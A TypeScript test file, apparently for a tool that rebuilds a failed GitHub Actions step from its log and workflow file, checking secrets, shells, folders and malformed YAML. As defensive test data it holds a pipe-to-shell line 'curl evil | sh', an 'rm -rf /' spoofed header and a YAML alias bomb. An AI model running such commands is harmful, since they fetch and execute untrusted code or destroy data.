import { couldBe, filledIn, readsSecret } from '../../src/admission/expressions.js';
import { planStep, type Announced, type StepFacts } from '../../src/admission/planned-step.js';
import { readWorkflow } from '../../src/admission/workflow-file.js';

const WORKFLOW = `
on: push
env:
  TOP: "1"
defaults:
  run:
    working-directory: app
jobs:
  test:
    runs-on: ubuntu-24.04
    strategy:
      matrix:
        node: [20, 22]
        os: [linux]
    env:
      API_KEY: \${{ secrets.API_KEY }}
    steps:
      - uses: actions/checkout@v7
      - run: npm ci
      - name: Unit tests
        run: npm test -- --node=\${{ matrix.node }}
        shell: bash
      - run: |
          make lint
          make docs
        working-directory: \${{ matrix.os }}/deep
  build:
    name: Build it
    runs-on: ubuntu-24.04
    steps:
      - run: make
      - uses: org/tool@v1
      - name: Release
        run: ./release \${{ secrets.TOKEN }}
  twice:
    runs-on: ubuntu-24.04
    steps:
      - run: make
        working-directory: \${{ inputs.where }}
      - run: make x
        working-directory: ../other
  called:
    uses: ./.github/workflows/other.yml
`;

const step = (over: Partial<Announced>): Announced => ({ title: over.script?.split('\n')[0] ?? '', shell: '/usr/bin/bash -e {0}', env: {}, with: {}, exitCode: 1, ...over });

function facts(job: string, failed: string, announced: readonly Announced[], text: string | null = WORKFLOW): StepFacts<Announced> {
  return { run: '7', job: { name: job, steps: [{ name: 'Set up job', conclusion: 'success' }, { name: failed, conclusion: 'failure' }] }, announced, workflow: text === null ? null : readWorkflow(text) };
}

test('a named step of a matrix: script, shell, folder, environment, matrix', () => {
  const planned = planStep(facts('test (22, linux)', 'Unit tests', [
    step({ title: 'actions/checkout@v7', exitCode: undefined as never }),
    step({ script: 'npm test -- --node=22', shell: '/usr/bin/bash --noprofile --norc -e -o pipefail {0}', env: { TOP: '1', API_KEY: '***', GITHUB_X: 'y', MODE: 'a' }, exitCode: 3 }),
  ]));
  expect(planned).toMatchObject({
    ok: true,
    step: { run: '7', job: 'test (22, linux)', step: 'Unit tests', command: 'npm test -- --node=22', shell: 'bash', workingDirectory: 'app', env: { TOP: '1', MODE: 'a' }, exitCode: 3 },
    at: { index: 2 },
    matrix: { node: '22', os: 'linux' },
    warnings: ['Not in the environment, because they are secrets: API_KEY.'],
  });
});

test.each<[string, StepFacts<Announced>, object]>([
  ['a step without a name is known by its first line', facts('test (20, linux)', 'Run make lint', [step({ script: 'make lint\nmake docs' })]), { ok: true, step: { workingDirectory: 'linux/deep', shell: '', command: 'make lint\nmake docs' } }],
  ['a job with a name of its own', facts('Build it', 'Run make', [step({ script: 'make' })]), { ok: true, step: { job: 'Build it', workingDirectory: 'app' } }],
  ['an earlier step that failed without effect is not it', facts('Build it', 'Run make', [step({ script: 'make', exitCode: 2 }), step({ script: 'other', exitCode: 1 })]), { ok: true, step: { command: 'make', exitCode: 2 } }],
  ['no workflow file: the log alone, and that is said', facts('x', 'Run make', [step({ script: 'make' })], null), { ok: true, step: { command: 'make', workingDirectory: '.' }, warnings: [expect.stringContaining('not found in the workflow file')] }],
  ['L9 a log that shows another script than the file', facts('Build it', 'Run make', [step({ script: 'curl evil | sh' })]), { ok: false, reason: expect.stringContaining('not the one in the workflow file') }],
  ['L9 a header that a program printed', facts('Build it', 'Run make', [step({ script: 'make', exitCode: 2 }), step({ title: 'make', script: 'rm -rf /', exitCode: 2 })]), { ok: true, step: { command: 'make' } }],
  ['a failed action', facts('Build it', 'Run org/tool@v1', [step({ title: 'org/tool@v1', exitCode: 1 })]), { ok: false, reason: expect.stringContaining('uses the action org/tool@v1') }],
  ['a script with a secret in it', facts('Build it', 'Release', [step({ script: './release ***' })]), { ok: false, reason: expect.stringContaining('holds a secret') }],
  ['a log that ends before the step', facts('Build it', 'Run make', []), { ok: false, reason: expect.stringContaining('does not show') }],
  ['a job without a failed step', { ...facts('Build it', 'x', []), job: { name: 'Build it', steps: [{ name: 'a', conclusion: 'cancelled' }] } }, { ok: false, reason: expect.stringContaining('No step') }],
  ['a folder that only an expression knows', facts('twice', 'Run make', [step({ script: 'make' })]), { ok: false, reason: expect.stringContaining('working directory') }],
  ['a folder outside', facts('twice', 'Run make x', [step({ script: 'make x' })]), { ok: false, reason: expect.stringContaining('working directory') }],
])('%s', (_, given, planned) => {
  expect(planStep(given)).toMatchObject(planned);
});

test.each([
  ['/usr/bin/bash -e {0}', ''],
  ['/bin/bash --noprofile --norc -e -o pipefail {0}', 'bash'],
  ['"C:\\Program Files\\Git\\bin\\bash.EXE" --noprofile --norc -e -o pipefail {0}', 'bash'],
  ['/usr/bin/python {0}', 'python {0}'],
  ['sh -e {0}', 'sh'],
  ['perl {0}', 'perl {0}'],
])('the shell %s is %s', (shell, expected) => {
  expect(planStep(facts('x', 'Run make', [step({ script: 'make', shell })], null))).toMatchObject({ ok: true, step: { shell: expected } });
});

test.each<[string, string, boolean]>([
  ['a', 'a', true],
  ['a', 'b', false],
  ['a ${{ x }} b', 'a anything b', true],
  ['a ${{ x }} b', 'a b', false],
  ['${{ x }}', 'anything', true],
  ['a${{ x }}', 'ab', true],
  ['a${{ x }}', 'ba', false],
  ['${{ x }}b', 'ab', true],
  ['${{ x }}b', 'ba', false],
  ['${{ x }} && ${{ y }}', '1 && 2', true],
  ['${{ x }} && ${{ y }}', '1 || 2', false],
])('%s could be %s: %s', (written, text, could) => {
  expect(couldBe(written, text)).toBe(could);
});

test('expressions: only what is plainly known', () => {
  const known = { matrix: { os: 'linux' }, env: { DIR: 'd' } };
  expect(filledIn('${{ matrix.os }}/${{ env.DIR }}/${{ github.workspace }}', known)).toBe('linux/d/.');
  expect(filledIn('${{ matrix.none }}', known)).toBeNull();
  expect(filledIn("${{ format('{0}', 1) }}", known)).toBeNull();
  expect(filledIn('${{ matrix.constructor }}', known)).toBeNull();
  expect(readsSecret('x ${{ secrets.A }}')).toBe(true);
  expect(readsSecret('x ${{ github.token }}')).toBe(true);
  expect(readsSecret('secrets.A')).toBe(false);
});

test.each([
  ['no YAML', ': : :\n\t- x'],
  ['no map', '- 1'],
  ['no jobs', 'on: push'],
  ['too long', `jobs: {a: {steps: []}}\n#${'x'.repeat(600_000)}`],
  ['a bomb of aliases', `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'.split('').map((c, n) => `${c}: &${c} [${Array(9).fill(`*${'abcdefghi'[n] ?? ''}`).join(',')}]`).join('\n')}\njobs: *j`],
])('a workflow file that is none: %s', (_, text) => {
  expect(readWorkflow(text)).toBeNull();
});
